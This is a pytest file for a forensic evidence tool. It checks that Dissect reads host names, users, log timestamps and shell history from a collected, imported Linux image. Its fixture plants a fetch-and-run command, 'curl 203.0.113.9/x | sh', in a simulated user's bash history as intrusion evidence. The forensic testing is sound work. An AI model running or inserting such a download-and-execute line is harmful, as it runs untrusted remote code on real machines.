"""A stranger's tool opens the working copy: what it reads is the proof, not that it opened."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from bundles import IDENTITY, RECIPIENT, sealed
from hostile import link, regular

from evidence.collecting.collection import collect
from evidence.intake import import_bundle
from evidence.planning.request import Request

TOOLS = Path(sys.executable).parent
SYSLOG = b"""\
Nov 14 03:14:07 ward-3 sshd[812]: Failed password for root from 203.0.113.9 port 50122 ssh2
Nov 14 03:14:09 ward-3 sshd[812]: Accepted password for nurse from 203.0.113.9 port 50124 ssh2
"""
AUTH = SYSLOG.replace(b"812", b"813")


def dissect(tool, copy, *arguments):
    """What a tool of Dissect prints about a folder."""
    done = subprocess.run(
        [str(TOOLS / tool), "-q", str(copy), *arguments],
        capture_output=True,
        check=True,
        env={"PATH": os.environ["PATH"], "HOME": str(copy.parent), "LANG": "C.UTF-8"},
    )
    return done.stdout


def records(copy, function):
    """The records that a function of target-query gives, as JSON."""
    lines = dissect("target-query", copy, "-j", "-f", function).splitlines()
    found = [json.loads(line) for line in lines]
    return [each for each in found if each.get("_type") != "recorddescriptor"]


@pytest.fixture(scope="module")
def ward(tmp_path_factory):
    """A small Linux machine, collected, sealed, imported."""
    place = tmp_path_factory.mktemp("ward")
    files = {
        "/etc/hostname": b"ward-3\n",
        "/etc/hosts": b"127.0.0.1 localhost\n127.0.1.1 ward-3\n",
        "/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nnurse:x:1000:1000::/home/nurse:/bin/sh\n",
        "/usr/lib/os-release": b'NAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\n'
        b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
        "/etc/debian_version": b"12.4\n",
        "/etc/sysctl.conf": b"",
        "/etc/timezone": b"Asia/Tokyo\n",
        "/var/log/syslog": SYSLOG,
        "/var/log/auth.log": AUTH,
        "/home/nurse/.bash_history": b"curl 203.0.113.9/x | sh\n",
    }
    given = [regular(name, data) for name, data in files.items()]
    given.append(link("/etc/os-release", b"../usr/lib/os-release"))
    path = sealed(place / "bundle", volumes=[given, []])
    return import_bundle(path, place / "case", identities=[IDENTITY]).host / "fs"


def test_dissect_reads_host_name_system_and_users(ward):
    # The version stands in a file behind a link: os-release(5).
    found = dissect("target-query", ward, "-f", "hostname,os,version")
    users = records(ward, "users")

    assert found.strip().endswith(b"> ward-3 linux Debian GNU/Linux 12")
    assert [(user["name"], user["uid"]) for user in users] == [("root", 0), ("nurse", 1000)]


def test_dissect_reads_every_line_of_the_logs_in_the_year_that_their_file_had(ward):
    """Such lines name no year: it comes from the file's time, which must have come back."""
    for function in ("authlog", "syslog"):
        found = records(ward, function)

        assert sorted(each["ts"] for each in found) == [
            "2023-11-14T03:14:07+09:00",
            "2023-11-14T03:14:09+09:00",
        ]
        assert all("203.0.113.9" in each["message"] for each in found)


def test_dissect_reads_the_history_of_a_home_by_its_path(ward):
    (line,) = records(ward, "commandhistory")

    assert (line["command"], line["username"]) == ("curl 203.0.113.9/x | sh", "nurse")


def test_dissect_reads_this_machine_from_its_own_collection(tmp_path):
    """The real machine, its ordinary collectors, and a tool that knows none of them."""
    request = Request(
        output=tmp_path / "stick",
        profile="quick",
        recipients=(RECIPIENT,),
        only=("os-identity", "accounts", "var-log"),
    )
    collected = collect(request)
    copy = import_bundle(collected.path, tmp_path / "case", identities=[IDENTITY]).host / "fs"
    logs = [p for p in (copy / "var/log").rglob("*.log") if p.is_file() and p.stat().st_size]

    name = dissect("target-query", copy, "-f", "hostname").decode()
    users = records(copy, "users")

    assert name.strip().endswith("> " + Path("/etc/hostname").read_text().strip())
    assert {(user["name"], user["uid"]) for user in users} == {
        (account[0], int(account[2]))
        for path in Path("/etc").glob("passwd*")  # and as it was before its last change
        if path.name in ("passwd", "passwd-")
        for account in (line.split(":") for line in path.read_text().splitlines())
    }
    assert logs
    inside = f"/{min(logs).relative_to(copy)}"
    assert dissect("target-fs", copy, "cat", inside) == min(logs).read_bytes()
